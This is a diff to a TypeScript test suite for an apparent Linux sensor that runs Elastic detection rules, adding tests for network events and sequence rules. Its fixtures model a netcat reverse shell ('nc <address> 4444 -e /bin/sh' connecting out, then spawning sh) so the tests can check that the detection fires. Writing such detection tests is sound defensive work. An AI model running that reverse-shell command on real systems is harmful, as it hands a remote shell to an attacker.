@@ -11,6 +11,10 @@ import type { ExecEvent } from "../../../src/sensor/events.js";
 import { loadRuleCatalog } from "../../../src/rules/catalog.js";
 import { elasticRule } from "../../../src/rules/elastic/rule.js";
 import { loadElasticRules } from "../../../src/rules/elastic/loader.js";
+import { Engine } from "../../../src/engine/engine.js";
+import { entityId } from "../../../src/process/ecs-process.js";
+import { connect, exec as execOf, fork } from "../engine/fixtures.js";
+import { buildConnectEcsDocument } from "../../../src/rules/elastic/ecs-network.js";
 
 const dir = fileURLToPath(new URL("./fixtures/linux-like/", import.meta.url));
 
@@ -40,10 +44,14 @@ describe("Linux-like Elastic rules", () => {
       "a_optional_fields.toml": ["runs", undefined],
       "b_like_args_count.toml": ["runs", undefined],
       "c_working_dir.toml": ["runs", undefined],
-      "d_sequence.toml": ["skipped", "EQL: sequence queries are not supported (only single-event queries) (query 1:1)"],
-      "e_file.toml": ["skipped", 'event category "file" is not supported (only process)'],
+      "d_sequence.toml": ["runs", undefined],
+      "e_file.toml": ["skipped", 'event category "file" is not supported (only process, network, any)'],
       "f_kuery.toml": ["skipped", 'language "kuery" is not supported (only eql)'],
       "g_unprovided.toml": ["runs", undefined],
+      "h_network.toml": ["runs", undefined],
+      "i_relay_sequence.toml": ["runs", undefined],
+      "j_never.toml": ["runs", undefined],
+      "k_functions.toml": ["runs", undefined],
     });
   });
 
@@ -51,6 +59,17 @@ describe("Linux-like Elastic rules", () => {
     const { statuses } = loadRuleCatalog({ rulePaths: [dir], lenient: true });
     expect(statuses.find((s) => s.id === "fx-unprovided")?.unprovidedFields).toEqual(["process.entry_leader.entry_meta.type"]);
     expect(statuses.find((s) => s.id === "fx-optional")?.unprovidedFields).toBeUndefined();
+  });
+
+  it("the catalog says which runnable rules can never fire, and why", () => {
+    const { statuses } = loadRuleCatalog({ rulePaths: [dir], lenient: true });
+    const never = Object.fromEntries(statuses.filter((s) => s.neverFires !== undefined).map((s): [string, string] => [s.id ?? "", s.neverFires ?? ""]));
+    expect(never).toEqual({
+      // process.entry_leader.* is never filled, and the condition needs it.
+      "fx-unprovided": "its condition needs a field or value sockeye never provides",
+      // No process document has event.type "end".
+      "fx-never": "step 2 needs a field or value sockeye never provides",
+    });
   });
 
   it("?field: matches a dash-led argument, and the optional parent executable excludes apt", () => {
@@ -72,5 +91,75 @@ describe("Linux-like Elastic rules", () => {
     expect(fires("fx-cwd", exec("/tmp/.x1", ["./.x1"]), view("/usr/bin/bash", "/home/u"))).toBe(false);
     expect(fires("fx-cwd", exec("/tmp/.x1", ["./.x1"]), view("/usr/bin/bash", undefined))).toBe(false);
     expect(fires("fx-cwd", exec("/tmp/x1", ["./x1"]), view("/usr/bin/bash", "/tmp"))).toBe(false);
+  });
+});
+
+describe("Elastic network documents and sequences through the engine", () => {
+  const results = loadElasticRules([dir], { lenient: true });
+  const rule = (id: string) => elasticRule(results.find((r) => r.rule?.meta.id === id)!.rule!);
+  const T = 1_000_000;
+  const bash = { pid: 100, ppid: 1, startNs: 1_000 * T, comm: "bash", parentComm: "sshd" };
+  const nc = { pid: 200, ppid: 100, startNs: 2_000 * T, comm: "nc", parentComm: "bash" };
+  const sh = { pid: 300, ppid: 200, startNs: 3_000 * T, comm: "sh", parentComm: "nc" };
+  const at = (ms: number) => ({ timeMs: 1_800_000_000_000 + ms });
+  const shellEvents = (address: string, shellAtMs: number) => [
+    execOf({ ...at(0), task: bash, filename: "/usr/bin/bash", args: ["bash"] }),
+    fork({ ...at(1), task: nc }),
+    execOf({ ...at(2), task: nc, filename: "/usr/bin/nc", args: ["nc", address, "4444", "-e", "/bin/sh"] }),
+    connect({ ...at(3), task: nc, fd: 3, remote: { address, port: 4444 } }),
+    fork({ ...at(shellAtMs - 1), task: sh }),
+    execOf({ ...at(shellAtMs), task: sh, filename: "/bin/sh", args: ["/bin/sh"] }),
+  ];
+  // Fixture timing puts timeNs 1 ms per ms apart, as the kernel's clock would be.
+  const findings = (events: ReturnType<typeof shellEvents>) => {
+    const engine = new Engine({ rules: [rule("fx-relay"), rule("fx-network")], fold: false, hostName: "h", now: () => 0 });
+    return events.flatMap((event) => engine.handle(event));
+  };
+
+  it("nc connecting out (fd 3) then starting sh fires the relay sequence, with both events listed", () => {
+    const out = findings(shellEvents("198.18.0.1", 100));
+    expect(out.map((f) => f.rule.id)).toEqual(["fx-relay"]);
+    const finding = out[0] as unknown as { process: { pid: number }; sockeye: { sequence: { kind: string; pid: number }[] } };
+    expect(finding.process.pid).toBe(300);
+    expect(finding.sockeye.sequence.map((e) => [e.kind, e.pid])).toEqual([["connect", 200], ["exec", 300]]);
+  });
+
+  it("not to loopback, not past maxspan", () => {
+    expect(findings(shellEvents("127.0.0.1", 100))).toEqual([]);
+    expect(findings(shellEvents("::ffff:127.0.0.1", 100))).toEqual([]);
+    expect(findings(shellEvents("198.18.0.1", 5_004))).toEqual([]);
+  });
+
+  it("the network document is the one Elastic Defend sends for a connect", () => {
+    const seen: Record<string, unknown>[] = [];
+    const engine = new Engine({ rules: [], fold: false });
+    for (const event of shellEvents("::ffff:198.18.0.1", 100).slice(0, 3)) engine.handle(event);
+    const event = connect({ ...at(3), task: nc, fd: 7, family: "inet6", familyNumber: 10, remote: { address: "::ffff:198.18.0.1", port: 4444 } });
+    seen.push(buildConnectEcsDocument(event, engine.processes));
+    expect(seen[0]).toMatchObject({
+      event: { category: ["network"], type: ["start"], action: "connection_attempted", kind: "event", outcome: "success" },
+      host: { os: { type: "linux" } },
+      process: { pid: 200, entity_id: entityId(200, 2_000 * T), name: "nc", executable: "/usr/bin/nc", parent: { pid: 100, name: "bash", entity_id: entityId(100, 1_000 * T) } },
+      destination: { ip: "198.18.0.1", address: "198.18.0.1", port: 4444 },
+      network: { direction: "egress", type: "ipv4", transport: "tcp" },
+      user: { id: "1000" },
+    });
+  });
+
+  it("a python connect to a public address fires the network rule; unix and private ones do not", () => {
+    const py = { pid: 400, ppid: 100, startNs: 4_000 * T, comm: "python3", parentComm: "bash" };
+    const engine = new Engine({ rules: [rule("fx-network")], fold: false, hostName: "h", now: () => 0 });
+    engine.handle(execOf({ ...at(0), task: py, filename: "/usr/bin/python3", args: ["python3"] }));
+    expect(engine.handle(connect({ ...at(1), task: py, remote: { address: "203.0.113.9", port: 443 } })).map((f) => f.rule.id)).toEqual(["fx-network"]);
+    expect(engine.handle(connect({ ...at(2), task: py, remote: { address: "10.1.1.1", port: 443 } }))).toEqual([]);
+    expect(engine.handle(connect({ ...at(3), task: py, family: "unix", familyNumber: 1, remote: null, unixPath: "/run/x" }))).toEqual([]);
+  });
+
+  it("functions in a process rule", () => {
+    const py = { pid: 500, ppid: 100, startNs: 5_000 * T, comm: "python3", parentComm: "bash" };
+    const engine = new Engine({ rules: [rule("fx-functions")], fold: false, hostName: "h", now: () => 0 });
+    engine.handle(execOf({ ...at(0), task: bash, filename: "/usr/bin/bash", args: ["bash"] }));
+    expect(engine.handle(execOf({ ...at(1), task: py, filename: "/usr/bin/python3", args: ["/usr/bin/python3", "x.py"] })).length).toBe(1);
+    expect(engine.handle(execOf({ ...at(2), task: py, filename: "/usr/bin/python3", args: ["python3"] })).length).toBe(0);
   });
 });
